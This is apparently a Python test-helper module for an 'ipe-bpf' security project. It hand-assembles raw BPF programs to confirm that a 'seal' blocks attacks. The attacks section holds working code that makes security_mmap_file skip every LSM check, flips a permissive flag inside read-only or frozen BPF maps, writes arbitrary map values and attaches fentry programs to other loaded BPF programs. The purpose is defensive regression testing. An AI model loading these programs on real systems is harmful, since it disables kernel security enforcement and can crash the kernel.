"""Small BPF programs, written as raw instructions, that attack ipe-bpf (or use BPF ordinarily):
the seal tests (test_zzz_seal.py) load them through bpf(2) with ctypes.

Each loader returns a file descriptor, or raises OSError with the errno the kernel gave
(EPERM when the seal refused).  Nothing here is product code: the programs only exist to show
that an attack works before the seal and is refused after it.
"""

from __future__ import annotations

import ctypes
import errno
import os
import struct
from dataclasses import dataclass

from ipe_bpf.kernel import bpfsys, libbpf

BPF_PROG_LOAD = 5
BPF_PROG_TEST_RUN = 10
BPF_OBJ_GET_INFO_BY_FD = 15
BPF_RAW_TRACEPOINT_OPEN = 17
BPF_LINK_CREATE = 28
BPF_LINK_UPDATE = 29
BPF_LINK_DETACH = 34
BPF_ITER_CREATE = 33

PROG_RAW_TRACEPOINT, PROG_TRACING, PROG_LSM, PROG_SYSCALL = 17, 26, 29, 31
ATTACH_FENTRY, ATTACH_MODIFY_RETURN, ATTACH_LSM_MAC, ATTACH_TRACE_ITER = 24, 26, 27, 28
BPF_F_SLEEPABLE = 1 << 4
BTF_KIND_FUNC = 12


def insn(code: int, dst: int = 0, src: int = 0, off: int = 0, imm: int = 0) -> bytes:
    return struct.pack("<BBhi", code, dst | src << 4, off, imm)


EXIT = insn(0x95)


def mov_imm(dst: int, imm: int) -> bytes:
    return insn(0xB7, dst, imm=imm)


def ld_map_fd(dst: int, fd: int) -> bytes:
    """ld_imm64 dst = the map of fd (BPF_PSEUDO_MAP_FD)."""
    return insn(0x18, dst, 1, imm=fd) + insn(0)


class _LoadAttr(ctypes.Structure):
    _fields_ = [("prog_type", ctypes.c_uint32), ("insn_cnt", ctypes.c_uint32), ("insns", ctypes.c_uint64),
                ("license", ctypes.c_uint64), ("log_level", ctypes.c_uint32), ("log_size", ctypes.c_uint32),
                ("log_buf", ctypes.c_uint64), ("kern_version", ctypes.c_uint32), ("prog_flags", ctypes.c_uint32),
                ("prog_name", ctypes.c_char * 16), ("prog_ifindex", ctypes.c_uint32),
                ("expected_attach_type", ctypes.c_uint32), ("prog_btf_fd", ctypes.c_uint32),
                ("func_info_rec_size", ctypes.c_uint32), ("func_info", ctypes.c_uint64),
                ("func_info_cnt", ctypes.c_uint32), ("line_info_rec_size", ctypes.c_uint32),
                ("line_info", ctypes.c_uint64), ("line_info_cnt", ctypes.c_uint32),
                ("attach_btf_id", ctypes.c_uint32), ("attach_prog_fd", ctypes.c_uint32),
                ("core_relo_cnt", ctypes.c_uint32), ("fd_array", ctypes.c_uint64), ("core_relos", ctypes.c_uint64),
                ("core_relo_rec_size", ctypes.c_uint32), ("log_true_size", ctypes.c_uint32)]


def _bpf(cmd: int, attr: ctypes.Structure) -> int:
    ret, err = bpfsys.bpf_errno(cmd, attr)
    if ret < 0:
        raise OSError(err, f"bpf cmd {cmd}: {os.strerror(err)}")
    return ret


@dataclass
class Loaded:
    fd: int
    log: str


def load(prog_type: int, code: bytes, *, attach_type: int = 0, btf_id: int = 0, attach_prog_fd: int = 0,
         flags: int = 0, name: bytes = b"ipe_attack") -> int:
    """BPF_PROG_LOAD; OSError carries the errno and the verifier's log."""
    insns = ctypes.create_string_buffer(code, len(code))
    license_ = ctypes.create_string_buffer(b"GPL")
    log = ctypes.create_string_buffer(1 << 16)
    attr = _LoadAttr(prog_type=prog_type, insn_cnt=len(code) // 8, insns=ctypes.addressof(insns),
                     license=ctypes.addressof(license_), log_level=1, log_size=len(log),
                     log_buf=ctypes.addressof(log), prog_flags=flags, prog_name=name,
                     expected_attach_type=attach_type, attach_btf_id=btf_id, attach_prog_fd=attach_prog_fd)
    ret, err = bpfsys.bpf_errno(BPF_PROG_LOAD, attr)
    if ret < 0 and err == errno.ENOSPC:  # the log was too small: the load itself may be fine
        attr.log_level = 0
        ret, err = bpfsys.bpf_errno(BPF_PROG_LOAD, attr)
    if ret < 0:
        raise OSError(err, f"BPF_PROG_LOAD: {os.strerror(err)}: {log.value.decode(errors='replace')[-600:]}")
    return ret


def vmlinux_func(name: str) -> int:
    """The BTF id of kernel function `name`."""
    lib = libbpf.lib()
    btf = lib.btf__load_vmlinux_btf()
    assert btf, "no vmlinux BTF"
    try:
        found = int(lib.btf__find_by_name_kind(btf, name.encode(), BTF_KIND_FUNC))
    finally:
        lib.btf__free(btf)
    assert found > 0, f"{name} not in vmlinux BTF"
    return found


def attach(prog_fd: int) -> int:
    """Attach a tracing / LSM program at its BTF target (BPF_RAW_TRACEPOINT_OPEN); the link fd."""
    return bpfsys.attach_lsm(prog_fd)


class _RawTpAttr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_uint64), ("prog_fd", ctypes.c_uint32), ("_pad", ctypes.c_uint32)]


# ------------------------------------------------------------------------------ attacks


def allow_everything_fmod_ret() -> int:
    """fmod_ret on security_mmap_file returning 1 << 32: every LSM's mmap check is skipped, and
    mmap reads the low 32 bits, 0: every PROT_EXEC mapping allowed.  Returns the link fd.
    (On security_bprm_check the same skips TOMOYO's set-up too: the kernel oopses.)"""
    prog = load(PROG_TRACING, mov_imm(0, 1) + insn(0x67, 0, imm=32) + EXIT,
                attach_type=ATTACH_MODIFY_RETURN, btf_id=vmlinux_func("security_mmap_file"))
    try:
        return attach(prog)
    finally:
        os.close(prog)


def allow_everything_lsm() -> int:
    """A BPF LSM program on mmap_file returning 1 << 32 (low half 0: within the range 6.12's
    verifier checks); it runs before ours in the same trampoline.  The link fd."""
    prog = load(PROG_LSM, mov_imm(0, 1) + insn(0x67, 0, imm=32) + EXIT,
                attach_type=ATTACH_LSM_MAC, btf_id=vmlinux_func("bpf_lsm_mmap_file"))
    try:
        return attach(prog)
    finally:
        os.close(prog)


class _IterLinkAttr(ctypes.Structure):
    _fields_ = [("prog_fd", ctypes.c_uint32), ("target_fd", ctypes.c_uint32), ("attach_type", ctypes.c_uint32),
                ("flags", ctypes.c_uint32), ("iter_info", ctypes.c_uint64), ("iter_info_len", ctypes.c_uint32),
                ("_pad", ctypes.c_uint32)]


class _IterCreateAttr(ctypes.Structure):
    _fields_ = [("link_fd", ctypes.c_uint32), ("flags", ctypes.c_uint32)]


def map_elem_iterator_program() -> int:
    """A bpf_map_elem iterator that sets byte 1 of every value it sees (ipe_config.permissive).
    The iterator writes values whatever the map's BPF_F_RDONLY_PROG or freeze say."""
    code = (insn(0x79, 2, 1, off=24)  # r2 = ctx->value
            + insn(0x15, 2, off=1, imm=0)  # if r2 == 0 goto exit
            + insn(0x72, 2, off=1, imm=1)  # *(u8 *)(r2 + 1) = 1
            + mov_imm(0, 0) + EXIT)
    return load(PROG_TRACING, code, attach_type=ATTACH_TRACE_ITER, btf_id=vmlinux_func("bpf_iter_bpf_map_elem"))


def run_map_elem_iterator(prog_fd: int, map_fd: int) -> None:
    """Attach the iterator to map_fd (a read-only fd is enough) and run it once."""
    info = ctypes.c_uint32(map_fd)
    link = _bpf(BPF_LINK_CREATE, _IterLinkAttr(prog_fd=prog_fd, attach_type=ATTACH_TRACE_ITER,
                                               iter_info=ctypes.addressof(info), iter_info_len=4))
    try:
        it = _bpf(BPF_ITER_CREATE, _IterCreateAttr(link_fd=link))
        try:
            while os.read(it, 4096):
                pass
        finally:
            os.close(it)
    finally:
        os.close(link)


def map_writer(map_fd: int, key: bytes, value: bytes) -> int:
    """A syscall program writing value at key of the map (it is in the program's used maps)."""
    vlen = (len(value) + 7) // 8 * 8
    key_off, value_off = -8, -8 - vlen
    padded_key = key.ljust(8, b"\0")
    padded = value.ljust(vlen, b"\0")
    code = b""
    for i in range(0, 8, 4):
        code += insn(0x62, 10, off=key_off + i, imm=struct.unpack("<i", padded_key[i:i + 4])[0])
    for i in range(0, vlen, 4):
        code += insn(0x62, 10, off=value_off + i, imm=struct.unpack("<i", padded[i:i + 4])[0])
    code += (ld_map_fd(1, map_fd)
             + insn(0xBF, 2, 10) + insn(0x07, 2, imm=key_off)  # r2 = &key
             + insn(0xBF, 3, 10) + insn(0x07, 3, imm=value_off)  # r3 = &value
             + mov_imm(4, 0) + insn(0x85, imm=2)  # bpf_map_update_elem(r1, r2, r3, 0)
             + mov_imm(0, 0) + EXIT)
    return load(PROG_SYSCALL, code, flags=BPF_F_SLEEPABLE)


class _TestRunAttr(ctypes.Structure):
    _fields_ = [("prog_fd", ctypes.c_uint32), ("retval", ctypes.c_uint32), ("_rest", ctypes.c_uint8 * 72)]


def test_run(prog_fd: int) -> int:
    attr = _TestRunAttr(prog_fd=prog_fd)
    _bpf(BPF_PROG_TEST_RUN, attr)
    return int(attr.retval)


class _ProgInfo(ctypes.Structure):
    _fields_ = [("_head", ctypes.c_uint8 * 128), ("btf_id", ctypes.c_uint32), ("func_info_rec_size", ctypes.c_uint32),
                ("func_info", ctypes.c_uint64), ("nr_func_info", ctypes.c_uint32), ("_rest", ctypes.c_uint8 * 100)]


class _InfoAttr(ctypes.Structure):
    _fields_ = [("bpf_fd", ctypes.c_uint32), ("info_len", ctypes.c_uint32), ("info", ctypes.c_uint64)]


def fentry_on(prog_id: int) -> int:
    """An fentry program attached to the main function of loaded program prog_id (the first
    step of instrumenting or replacing it).  Returns the program fd (loaded, not attached)."""
    target = bpfsys.prog_fd_by_id(prog_id)
    try:
        record = (ctypes.c_uint32 * 2)()
        info = _ProgInfo(func_info_rec_size=8, func_info=ctypes.addressof(record), nr_func_info=1)
        _bpf(BPF_OBJ_GET_INFO_BY_FD, _InfoAttr(bpf_fd=target, info_len=ctypes.sizeof(info),
                                               info=ctypes.addressof(info)))
        return load(PROG_TRACING, mov_imm(0, 0) + EXIT, attach_type=ATTACH_FENTRY, btf_id=record[1],
                    attach_prog_fd=target)
    finally:
        os.close(target)


# ------------------------------------------------------------------------------ ordinary use


def raw_tracepoint(name: str = "sys_enter") -> tuple[int, int]:
    """An ordinary raw tracepoint program (returns 0), attached: (prog fd, link fd)."""
    prog = load(PROG_RAW_TRACEPOINT, mov_imm(0, 0) + EXIT, name=b"ipe_ordinary")
    tp = ctypes.create_string_buffer(name.encode())
    link = _bpf(BPF_RAW_TRACEPOINT_OPEN, _RawTpAttr(name=ctypes.addressof(tp), prog_fd=prog))
    return prog, link


class _LinkFdAttr(ctypes.Structure):
    _fields_ = [("link_fd", ctypes.c_uint32), ("new_prog_fd", ctypes.c_uint32), ("flags", ctypes.c_uint32),
                ("old_prog_fd", ctypes.c_uint32)]


def detach_link(link_fd: int) -> None:
    _bpf(BPF_LINK_DETACH, _LinkFdAttr(link_fd=link_fd))


def update_link(link_fd: int, new_prog_fd: int) -> None:
    _bpf(BPF_LINK_UPDATE, _LinkFdAttr(link_fd=link_fd, new_prog_fd=new_prog_fd))
